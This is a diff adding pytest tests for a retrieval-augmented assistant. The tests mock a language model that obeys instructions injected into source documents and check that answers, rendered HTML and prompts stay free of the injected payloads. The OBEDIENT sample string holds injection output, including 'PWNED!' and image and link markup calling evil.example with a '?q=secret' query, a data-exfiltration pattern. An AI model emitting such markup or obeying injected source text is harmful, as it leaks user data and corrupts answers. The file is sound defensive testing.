@@ -6,6 +6,7 @@ import re
 from typing import TYPE_CHECKING
 
 import pytest
+from llm_server import LlmServer
 from lxml import html
 
 from eval.facts import load_facts
@@ -19,6 +20,8 @@ from ui.viewer import open_citation, open_document
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
+
+    from llm_replies import Asked
 
     from eval.facts import Fact
     from rag import Answer
@@ -118,3 +121,32 @@ def test_a_list_of_what_the_documents_say_has_no_injected_text_in_it(library: Li
     for question in ("Summarize the documents.", "List everything about bridges, choirs and harbours."):
         spoken = said(assistant.ask(question)).lower()
         assert [payload for payload in PAYLOADS if payload in spoken] == []
+
+
+OBEDIENT = (
+    "Smithers did it, all 777 of them, at 07:77 [1]. PWNED! ![x](https://evil.example/?q=secret) "
+    "See [here](https://evil.example) or <img src=https://evil.example/x> [1]. [2] The documents do not say otherwise."
+)
+
+
+ORDERED = tuple(payload for payload in PAYLOADS if payload != "777")
+"""What only orders want said. Two of the documents say "777" themselves, and a model that repeats them lies no more."""
+
+
+def parrot(asked: Asked) -> str:
+    """Repeat all that stands between the fences, as a model does that takes sources for orders."""
+    return "\n".join(line for line in asked.user.splitlines() if not line.startswith("<"))
+
+
+@pytest.mark.parametrize("model", [OBEDIENT, parrot], ids=["obedient", "parrot"])
+def test_a_language_model_that_obeys_changes_no_answer(library: Library, model: str) -> None:
+    with LlmServer(model) as server:
+        assistant = Assistant(library, Settings(llm="test-model", llm_url=server.url))
+        for fact in FACTS:
+            answer = assistant.ask(fact.question)
+            assert answer_matches(f"{answer.text} {answer.short_answer}", said(answer), fact.answers, fact.all_of)
+            assert [payload for payload in ORDERED if payload in said(answer).lower()] == []
+            assert_inert(exchange_html(Exchange(fact.question, answer=answer)))
+        prompts = [asked.user.lower() for asked in server.asked]
+    assert len(prompts) == len(FACTS)
+    assert [payload for payload in ORDERED for prompt in prompts if payload in prompt] == []
